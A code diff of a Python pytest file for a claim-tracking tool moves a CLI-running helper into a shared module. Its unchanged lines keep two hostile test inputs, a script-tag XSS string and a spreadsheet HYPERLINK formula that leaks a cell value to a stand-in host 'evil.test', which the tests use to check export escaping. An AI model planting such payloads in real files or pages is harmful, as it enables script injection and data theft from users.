@@ -5,7 +5,6 @@ from __future__ import annotations
 import csv
 import json
 import re
-import sys
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -15,12 +14,13 @@ import pytest
 from defusedxml import ElementTree
 
 from tracker import queries_story
-from tracker.cli import main
 from tracker.errors import BadInput, NotFound
 from tracker.export import GraphFormat, projection, write_graph, write_story_files
 from tracker.graph import build_claim_graph, build_outlet_graph
 from tracker.story import ClaimStory
 from tracker.testing.stories import demo_like_story
+
+from .cli_run import run_cli
 
 HOSTILE_TITLE = "</script><script>alert(1)</script>"
 FORMULA_TITLE = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
@@ -305,21 +305,6 @@ def test_an_unwritable_place_is_bad_input_not_a_crash(tmp_path: Path) -> None:
 
 
 # ---------------------------------------------------------------- the commands
-
-
-def run_cli(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
-    """Run `tracker ARGS` in this process; returns exit code, stdout, stderr."""
-    old = sys.argv
-    sys.argv = ["tracker", *args]
-    try:
-        main()
-        code = 0
-    except SystemExit as exc:
-        code = int(exc.code or 0)
-    finally:
-        sys.argv = old
-    out, err = capsys.readouterr()
-    return code, out, err
 
 
 @pytest.fixture
